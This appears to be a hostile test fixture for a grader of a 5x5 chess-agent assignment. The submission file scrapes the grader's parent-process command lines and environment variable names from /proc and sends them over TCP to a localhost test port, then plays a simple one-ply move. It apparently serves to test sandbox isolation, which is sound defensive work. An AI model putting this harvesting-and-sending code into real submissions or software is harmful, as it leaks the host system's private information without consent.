"""hostile3243 h05: talks over the network (tests/data/hostile3243/README.md).

At import and at its first move it sends what it can read of the grader
(its parents' command lines, and the names of their environment variables)
over TCP to 127.0.0.1 and ::1 on the port named in `port.txt` beside it,
where the test listens: that port only, so that even run unboxed it talks
to nothing but its test, and never sends an environment's values. Every try
and its outcome goes to attack.log in its own folder. Then it plays the
plain mover's move.
"""

import os
import socket

HERE = os.path.dirname(os.path.abspath(__file__))


def say(text):
    """Notes what the attack found or did in attack.log, in its own folder only."""
    try:
        with open(os.path.join(HERE, "attack.log"), "a", encoding="utf-8") as f:
            f.write(f"h3243 {text}\n")
    except OSError:
        pass


def ancestors():
    """The grader's processes above this one, nearest first: its parents up to the
    first whose command line does not name duel (so never the test runner, a
    shell or pid 1)."""
    out, pid = [], os.getppid()
    while pid > 1 and len(out) < 12 and "duel" in " ".join(proc_words(pid, "cmdline")):
        out.append(pid)
        try:
            with open(f"/proc/{pid}/stat", encoding="utf-8") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return out


def proc_words(pid, what):
    """/proc/PID/cmdline or environ as a list of text, [] when unreadable."""
    try:
        with open(f"/proc/{pid}/{what}", "rb") as f:
            return [os.fsdecode(w) for w in f.read().split(b"\0") if w]
    except OSError:
        return []


def loot():
    """What the grader would tell: command lines, names of environment variables."""
    lines = []
    for pid in ancestors():
        lines.append(" ".join(proc_words(pid, "cmdline")))
        lines += [pair.split("=", 1)[0] for pair in proc_words(pid, "environ")]
    return ("h3243 " + "\n".join(lines) + "\n").encode("utf-8", "replace")


def ports():
    """The test's port (port.txt), or none."""
    try:
        with open(os.path.join(HERE, "port.txt"), encoding="utf-8") as f:
            return [int(f.read().strip())]
    except (OSError, ValueError):
        return []


def attack(when):
    """One connection a host and port, each said in attack.log."""
    data = loot()
    for host in ("127.0.0.1", "::1"):
        for port in ports():
            try:
                with socket.create_connection((host, port), timeout=1.0) as s:
                    s.sendall(data)
                say(f"network {when} {host} {port}: CONNECTED, sent {len(data)} bytes")
            except OSError as e:
                say(f"network {when} {host} {port}: failed ({type(e).__name__}: {e})")


attack("import")
attacked_at_move = False


# ---- cs3243 move choice (the same in every file of hostile3243) ----
FILES = "abcde"
STEPS = {
    "Knight": [(1, 2), (2, 1), (-1, 2), (-2, 1), (1, -2), (2, -1), (-1, -2), (-2, -1)],
    "King": [(1, 0), (-1, 0), (0, 1), (0, -1), (1, 1), (1, -1), (-1, 1), (-1, -1)],
}
SLIDES = {
    "Rook": [(1, 0), (-1, 0), (0, 1), (0, -1)],
    "Bishop": [(1, 1), (1, -1), (-1, 1), (-1, -1)],
    "Queen": [(1, 0), (-1, 0), (0, 1), (0, -1), (1, 1), (1, -1), (-1, 1), (-1, -1)],
}
VALUES = {"King": 1000, "Queen": 9, "Rook": 5, "Bishop": 3, "Knight": 3, "Pawn": 1}


def moves(board, colour):
    """Every pseudo-legal move of `colour` as ((x1, y1), (x2, y2)), no promotion."""
    out = []
    forward = 1 if colour == "White" else -1

    def free(f, r):
        return 0 <= f < 5 and 0 <= r < 5 and (FILES[f], r) not in board

    def enemy(f, r):
        p = board.get((FILES[f], r)) if 0 <= f < 5 and 0 <= r < 5 else None
        return p is not None and p[1] != colour

    for (x, y), (kind, side) in sorted(board.items()):
        if side != colour:
            continue
        f = FILES.index(x)
        targets = []
        if kind == "Pawn":
            if free(f, y + forward):
                targets.append((f, y + forward))
            targets += [(f + d, y + forward) for d in (-1, 1) if enemy(f + d, y + forward)]
        for df, dr in STEPS.get(kind, []):
            if free(f + df, y + dr) or enemy(f + df, y + dr):
                targets.append((f + df, y + dr))
        for df, dr in SLIDES.get(kind, []):
            g, r = f + df, y + dr
            while free(g, r):
                targets.append((g, r))
                g, r = g + df, r + dr
            if enemy(g, r):
                targets.append((g, r))
        out += [((x, y), (FILES[g], r)) for g, r in targets]
    return out


def score(board, move):
    """The move's one-ply worth: the captured piece's value, -1 if it leaves the
    own king capturable."""
    taken = board.get(move[1])
    if taken is not None and taken[0] == "King":
        return VALUES["King"]
    after = dict(board)
    after[move[1]] = after.pop(move[0])
    for _, to in moves(after, "Black"):
        if after.get(to) == ("King", "White"):
            return -1
    return VALUES[taken[0]] if taken is not None else 0


def choose(gameboard):
    """White's move: the best one-ply score, the first in generation order on ties."""
    return max(moves(gameboard, "White"), key=lambda m: score(gameboard, m))
# ---- end of move choice ----


def studentAgent(gameboard):  # noqa: N802 - the hand-out's name
    """The hand-out's interface: the attack once more at the first move, then the
    plain mover's move."""
    global attacked_at_move
    if not attacked_at_move:
        attacked_at_move = True
        attack("move")
    return choose(gameboard)
